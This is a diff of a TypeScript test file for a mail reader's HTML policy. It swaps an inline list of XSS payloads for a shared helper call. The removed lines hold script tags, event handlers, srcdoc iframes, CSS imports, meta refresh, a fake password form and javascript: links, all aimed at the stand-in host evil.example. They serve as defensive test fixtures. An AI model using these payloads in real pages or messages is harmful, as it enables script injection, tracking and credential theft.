@@ -3,25 +3,11 @@ import { describe, expect, test } from 'vitest';
 import { Problem } from '../problem.ts';
 import { mailPolicy } from '../messages/part-handlers.ts';
 import { readMail } from './read-mail.ts';
+import { attacksOf } from './testing/attacks.ts';
 
 const html = (body: string) => Buffer.from(`Content-Type: text/html; charset=utf-8\r\n\r\n${body}\r\n`);
 
-// V16: scripts, event handlers, SVG, srcdoc, style and refresh that would load or run something.
-const attacks = [
-  '<script>fetch("http://evil.example/")</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)><script>alert(2)</script></svg>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<style>@import "http://evil.example/x.css";</style>',
-  '<div style="background:url(http://evil.example/p)">',
-  '<link rel=stylesheet href=http://evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
-  '<object data=http://evil.example/x></object><embed src=http://evil.example/x>',
-  '<form action=http://evil.example/><input name=password><button>go</button></form>',
-  '<base href=http://evil.example/><a href=x ping=http://evil.example/>x</a>',
-  '<video src=http://evil.example/v autoplay></video><audio src=http://evil.example/a>',
-  '<a href="javascript:alert(1)">x</a>',
-];
+const attacks = attacksOf('http://evil.example');
 
 describe('the policy of the frame', () => {
   const directives = new Map(
